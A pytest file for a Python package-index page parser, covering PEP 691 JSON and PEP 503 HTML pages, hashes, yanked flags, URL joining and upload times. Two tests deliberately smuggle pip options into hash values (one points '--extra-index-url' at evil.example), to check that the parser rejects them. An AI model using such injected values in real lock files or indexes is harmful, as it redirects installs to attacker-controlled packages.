"""Index page parsers: PEP 691 JSON and PEP 503 HTML, both metadata key spellings, yanked,
requires-python, URL joining."""

from __future__ import annotations

import json

import pytest
from packaging.utils import canonicalize_name
from packaging.version import Version

from pipx_lockext.core.index.filenames import parse_filename
from pipx_lockext.core.index.indexpages import (
    JSON_TYPE,
    PageError,
    parse_html,
    parse_json,
    parse_page,
)

PAGE = "https://example.org/simple/demo/"
DEMO = canonicalize_name("demo")
SHA = "ab" * 32
META = "cd" * 32


def json_page(*files: dict[str, object]) -> bytes:
    return json.dumps(
        {"meta": {"api-version": "1.1"}, "name": "demo", "files": list(files)}
    ).encode()


def test_json_files_with_every_field():
    body = json_page(
        {
            "filename": "demo-1.0-py3-none-any.whl",
            "url": "../../files/demo-1.0-py3-none-any.whl#sha256=ignored",
            "hashes": {"sha256": SHA.upper(), "md5": "x"},
            "requires-python": ">=3.9",
            "yanked": "broken build",
            "core-metadata": {"sha256": META},
            "size": 123,
        },
        {"filename": "demo-0.9.tar.gz", "url": "https://files.example/demo-0.9.tar.gz",
         "hashes": {}, "yanked": True},
    )  # fmt: skip
    first, second = parse_json(body, PAGE).files()
    assert first.url == "https://example.org/files/demo-1.0-py3-none-any.whl"
    assert first.sha256 == SHA
    assert first.requires_python == ">=3.9"
    assert first.yanked == "broken build"
    assert first.metadata_sha256 == META
    assert first.size == 123
    assert second.sha256 is None
    assert second.yanked == ""
    assert not second.has_metadata_file


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://files.example/d/demo-1.0.tar.gz", "https://files.example/d/demo-1.0.tar.gz"),
        (
            "https://files.example/demo-1.0.tar.gz#sha256=x",
            "https://files.example/demo-1.0.tar.gz",
        ),
        (
            "https://files.example/demo-1.0.tar.gz?a=1#f",
            "https://files.example/demo-1.0.tar.gz?a=1",
        ),
        ("//files.example/demo-1.0.tar.gz", "https://files.example/demo-1.0.tar.gz"),
        ("/files/demo-1.0.tar.gz", "https://example.org/files/demo-1.0.tar.gz"),
    ],
)
def test_json_file_urls_are_absolute_without_fragment(url, expected):
    """A plain absolute URL (what PyPI lists) is taken as it is; anything else is resolved
    against the page, and the fragment is dropped either way."""
    body = json_page({"filename": "demo-1.0.tar.gz", "url": url, "hashes": {}})
    assert parse_json(body, PAGE).files()[0].url == expected


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ({"core-metadata": {"sha256": META}}, META),
        ({"dist-info-metadata": {"sha256": META}}, META),
        ({"core-metadata": True}, ""),
        ({"dist-info-metadata": False}, None),
        ({}, None),
    ],
)
def test_json_reads_both_metadata_spellings(entry, expected):
    body = json_page({"filename": "demo-1.0.tar.gz", "url": "x", **entry})
    assert parse_json(body, PAGE).files()[0].metadata_sha256 == expected


@pytest.mark.parametrize(
    "body",
    [b"not json", b"[]", b'{"meta": {"api-version": "2.0"}, "files": []}', b'{"files": [{}]}'],
)
def test_bad_json_pages_are_page_errors(body):
    with pytest.raises(PageError):
        parse_json(body, PAGE)


HTML = b"""<!DOCTYPE html><html><body>
<a href="../../files/demo-1.0-py3-none-any.whl#sha256=%s"
   data-requires-python="&gt;=3.9" data-core-metadata="sha256=%s">demo-1.0-py3-none-any.whl</a>
<a href="https://files.example/demo-0.9.tar.gz#md5=abc" data-yanked="">demo-0.9.tar.gz</a>
<a href="demo-0.8.tar.gz" data-yanked="security hole" data-dist-info-metadata="true">x</a>
<a href="demo%%2B1-0.7.zip">escaped</a>
<a>no href</a>
</body></html>""" % (SHA.encode(), META.encode())


def test_html_files_attributes_and_spellings():
    files = parse_html(HTML, PAGE).files()
    assert [f.filename for f in files] == [
        "demo-1.0-py3-none-any.whl", "demo-0.9.tar.gz", "demo-0.8.tar.gz", "demo+1-0.7.zip",
    ]  # fmt: skip
    wheel, old, older, _ = files
    assert wheel.url == "https://example.org/files/demo-1.0-py3-none-any.whl"
    assert (wheel.sha256, wheel.requires_python, wheel.yanked) == (SHA, ">=3.9", None)
    assert wheel.metadata_sha256 == META
    assert (old.sha256, old.yanked, old.has_metadata_file) == (None, "", False)
    assert (older.url, older.yanked) == (PAGE + "demo-0.8.tar.gz", "security hole")
    assert older.metadata_sha256 == ""


def test_html_base_tag_and_valueless_yanked():
    body = b'<base href="https://mirror.example/x/"><a href="a-1.0.tar.gz" data-yanked>a</a>'
    (file,) = parse_html(body, PAGE).files()
    assert file.url == "https://mirror.example/x/a-1.0.tar.gz"
    assert file.yanked == ""


def test_parse_page_chooses_by_content_type():
    body = json_page({"filename": "demo-1.0.tar.gz", "url": "x"})
    assert parse_page(body, f"{JSON_TYPE}; charset=utf-8", PAGE).files()[0].filename
    assert parse_page(HTML, "text/html", PAGE).files()[0].sha256 == SHA


@pytest.mark.parametrize(
    ("filename", "kind", "version"),
    [
        ("Foo_Bar-1.0-cp312-cp312-manylinux_2_17_x86_64.whl", "wheel", "1.0"),
        ("foo-bar-2.0rc1.tar.gz", "sdist", "2.0rc1"),
        ("foo-1.0.zip", "sdist", "1.0"),
        ("foo-1.0.exe", None, None),
        ("foo-1.0-py2.7.egg", None, None),
        ("not a wheel.whl", None, None),
    ],
)
def test_parse_filename(filename, kind, version):
    parsed = parse_filename(filename)
    if kind is None:
        assert parsed is None
    else:
        assert parsed is not None
        assert (parsed.kind, str(parsed.version)) == (kind, version)
        assert parsed.name in {"foo-bar", "foo"}


INJECTED = "\n--extra-index-url http://evil.example/simple/\n--trusted-host evil.example\nx"


@pytest.mark.parametrize(
    "entry",
    [
        {"hashes": {"sha256": "a" * 64 + INJECTED}},
        {"hashes": {"sha256": "not-hex"}},
        {"hashes": {"sha256": 42}},
        {"hashes": ["sha256", SHA]},
        {"hashes": {"sha256": SHA}, "core-metadata": {"sha256": "z" * 64}},
        {"hashes": {"sha256": SHA}, "requires-python": [">=3"]},
    ],
)
def test_a_json_value_that_is_not_what_its_key_says_makes_its_release_unreadable(entry):
    """Trust-boundary item 5: a hash value carrying lines of pip options was written into
    the lock; values are checked where they enter (as their release is read), naming the
    file."""
    body = json_page({"filename": "demo-1.0.tar.gz", "url": "demo-1.0.tar.gz", **entry})
    page = parse_json(body, PAGE)
    with pytest.raises(PageError, match=r"file 'demo-1\.0\.tar\.gz(\.metadata)?'"):
        page.release(DEMO, Version("1.0"))
    with pytest.raises(PageError, match=r"file 'demo-1\.0\.tar\.gz(\.metadata)?'"):
        page.files()


def test_releases_are_read_one_by_one_and_each_only_once():
    """A page of thousands of files: a release is made `DistFile`s when it is read, so a
    malformed entry of a release never read costs nothing, and never reaches a lock."""
    body = json_page(
        {"filename": "demo-2.0.tar.gz", "url": "a", "hashes": {"sha256": "not-hex"}},
        {"filename": "demo-1.0-py3-none-any.whl", "url": "b", "hashes": {"sha256": SHA}},
        {"filename": "demo-1.0.tar.gz", "url": "c", "hashes": {}},
        {"filename": "other-1.0.tar.gz", "url": "d", "hashes": {}},
        {"filename": "demo-1.0.exe", "url": "e", "hashes": {}},
    )
    page = parse_json(body, PAGE)
    assert sorted(page.versions(DEMO)) == [Version("1.0"), Version("2.0")]
    one = page.release(DEMO, Version("1.0"))
    assert [f.filename for f in one] == ["demo-1.0-py3-none-any.whl", "demo-1.0.tar.gz"]
    assert page.release(DEMO, Version("1.0.0")) is one  # read once, by version equality
    assert page.release(DEMO, Version("3.0")) == ()
    with pytest.raises(PageError, match="sha256 is not 64 hex digits"):
        page.release(DEMO, Version("2.0"))


@pytest.mark.parametrize("entry", [["demo-1.0.tar.gz"], {"filename": 1}, {"url": "x"}])
def test_an_entry_without_a_file_name_makes_the_page_unreadable(entry):
    """The file name is what a page is grouped by, so it is checked for every entry."""
    with pytest.raises(PageError, match="a file entry without a filename"):
        parse_json(json_page(entry), PAGE)  # type: ignore[arg-type]


def test_an_html_hash_fragment_that_is_not_a_sha256_makes_the_page_unreadable():
    body = b'<a href="demo-1.0.tar.gz#sha256=abc%0A--trusted-host%20x">demo-1.0.tar.gz</a>'
    with pytest.raises(PageError, match="sha256 is not 64 hex digits"):
        parse_html(body, PAGE)


@pytest.mark.parametrize(
    "filename",
    ["gamma-1.1 -py3-none-any.whl", "gamma- 1.1.tar.gz", "gamma-1.1\n.tar.gz", "gam ma-1.1.zip"],
)
def test_a_file_name_pip_could_not_match_is_no_release(filename):
    """Trust-boundary item 9: `gamma-1.1 -py3-none-any.whl` was pinned as 1.1."""
    assert parse_filename(filename) is None


def test_a_wheel_whose_tags_do_not_parse_installs_nowhere():
    """`py36+` is no interpreter tag: pip skips the wheel, and so does the resolver."""
    page = parse_json(
        json_page({"filename": "demo-1.0-py36+-none-any.whl", "url": "x", "hashes": {}}), PAGE
    )
    assert page.files()[0].tags == frozenset()
    assert {str(t) for t in parse_json(json_page(
        {"filename": "demo-1.0-1-cp313-cp313-manylinux_2_17_x86_64.whl", "url": "x", "hashes": {}}
    ), PAGE).files()[0].tags} == {"cp313-cp313-manylinux_2_17_x86_64"}  # fmt: skip


def test_json_upload_time_is_read_as_pep_700_gives_it():
    from datetime import datetime, timezone

    body = json_page(
        {"filename": "demo-1.0.tar.gz", "url": "a", "upload-time": "2023-01-02T03:04:05.123456Z"},
        {"filename": "demo-0.9.tar.gz", "url": "b", "upload-time": "2023-01-02T03:04:05Z"},
        {"filename": "demo-0.8.tar.gz", "url": "c"},
    )  # fmt: skip
    first, second, third = parse_json(body, PAGE).files()
    assert first.upload_time == datetime(2023, 1, 2, 3, 4, 5, 123456, tzinfo=timezone.utc)
    assert second.upload_time == datetime(2023, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
    assert third.upload_time is None
    assert third.upload_time_problem is None


@pytest.mark.parametrize(
    "value",
    ["2023-01-02T03:04:05+00:00", "2023-01-02", "2023-02-30T00:00:00Z", 1672628645, "\x1b[31m"],
)
def test_an_upload_time_not_in_pep_700_form_is_unknown_with_the_reason(value):
    """Untrusted index data: read strictly, but only a cutoff needs it (the client then
    refuses the file naming the index), so the page itself stays readable."""
    body = json_page({"filename": "demo-1.0.tar.gz", "url": "a", "upload-time": value})
    (file,) = parse_json(body, PAGE).files()
    assert file.upload_time is None
    assert file.upload_time_problem is not None
    assert "\x1b" not in file.upload_time_problem


def test_html_pages_carry_no_upload_time():
    page = parse_html(b'<a href="demo-1.0.tar.gz" data-upload-time="2023">x</a>', PAGE)
    assert page.files()[0].upload_time is None
